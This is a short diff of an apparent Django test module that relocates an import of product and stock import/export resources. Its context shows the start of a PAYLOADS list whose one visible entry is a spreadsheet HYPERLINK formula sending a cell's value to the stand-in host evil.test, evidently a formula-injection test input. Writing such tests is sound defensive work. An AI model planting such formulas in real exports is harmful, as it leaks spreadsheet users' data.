@@ -11,9 +11,9 @@ from django.contrib.messages import get_messages
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
+from console.admin.resources import ProductResource, StockResource
 from integrations.models import OutboxEvent
 from inventory.models import InventoryLevel, Location, Product
-from inventory.resources import ProductResource, StockResource
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.test/?d="&A1,"Open")',
